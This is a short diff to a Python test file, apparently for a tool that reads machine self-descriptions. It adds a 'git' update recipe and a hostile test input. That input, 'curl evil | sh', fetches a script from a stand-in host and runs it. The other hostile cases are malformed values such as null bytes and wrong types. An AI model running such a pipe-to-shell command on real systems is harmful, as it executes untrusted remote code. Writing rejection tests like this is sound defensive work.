@@ -256,6 +256,7 @@ TOLD = {
     "tools": ["docker"],
     "assistants": [{"name": "Roo Code", "version": "3"}],
     "labels": {"room": "Blue"},
+    "update": "git",
 }
 
 
@@ -274,6 +275,7 @@ def test_what_a_machine_says_of_itself():
         "baseline": "1.4.0",
         "paused": "yes",
         "orchestrates": "yes",
+        "recipe": "git",
     }
 
 
@@ -285,6 +287,7 @@ def test_who_said_nothing_has_no_facts_of_its_own():
 
 HOSTILE = {
     "nothing of it is a text": dict.fromkeys(TOLD, 7),
+    "a recipe that is none of ours": {"update": "curl evil | sh"},
     "lists of anything": {"targets": [None, {}], "tools": {"a": 1}, "assistants": ["x", {"name": []}], "labels": []},
     "labels of anything": {"labels": {"room": ["a"], "": "b"}},
     "a system that is another's fact": {"system": "linux\x00 or all", "arch": ")" * 10_000},
